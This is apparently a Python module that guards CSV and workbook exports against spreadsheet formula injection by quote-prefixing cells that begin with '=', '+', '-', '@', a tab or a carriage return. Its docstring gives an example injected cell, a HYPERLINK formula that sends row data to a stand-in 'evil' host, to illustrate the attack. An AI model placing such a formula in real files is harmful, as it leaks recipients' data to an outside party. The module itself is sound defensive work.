"""Cells of the CSV files and workbooks the toolkit writes, made safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return before one) as a formula: a recipient named
``=HYPERLINK("http://evil/?"&A1, "x")`` in ``batch-manifest.csv`` would send the row
elsewhere when the file is opened. As OWASP recommends ("CSV injection"), such a cell is
written with a single quote in front, which spreadsheets show as text; a cell that is a
number (``-12.5``, ``+3``, ``1e-3``) is written as it is and stays a number. A cell that
starts with a quote gets one more, so :func:`restored_cell` gives back exactly what was
written (the toolkit reads its own files back: the manifest on resume, exported facts
as ``facts_from``).

In a workbook, text is typed as text and never runs; only openpyxl's reading of a
string starting with ``=`` as a formula needs undoing (:func:`as_text_cell`).
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not run: text starting with a trigger
    (or a quote) gets a quote in front; numbers, and text that is a number, are unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith("'") or (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def restored_cell(text: str) -> str:
    """The value :func:`safe_cell` was given, from the cell it wrote (a CSV file the
    toolkit wrote, read back)."""
    return text[1:] if text.startswith("'") and (text[1:].startswith(("'", *TRIGGERS))) else text


def as_text_cell(cell) -> None:
    """Make an openpyxl cell holding a string that starts with ``=`` text, not a formula
    (openpyxl takes such a string for a formula when it is assigned)."""
    if isinstance(cell.value, str) and cell.data_type == "f":
        cell.data_type = "s"
